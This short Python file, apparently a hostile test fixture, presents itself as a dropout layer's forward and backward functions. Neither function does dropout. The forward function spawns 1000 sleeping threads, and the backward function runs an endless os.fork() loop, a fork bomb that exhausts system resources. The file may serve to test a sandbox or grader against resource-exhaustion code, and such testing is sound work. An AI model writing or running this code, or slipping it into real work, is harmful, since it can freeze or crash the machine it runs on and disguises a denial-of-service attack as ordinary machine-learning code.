# ruff: noqa
# Tries to start threads and processes without end.
import os
import threading
import time


def dropout_forward(x, p, rng, training=True):
    threads = [threading.Thread(target=time.sleep, args=(30,)) for _ in range(1000)]
    for t in threads:
        t.start()


def dropout_backward(dout, mask):
    while True:
        os.fork()
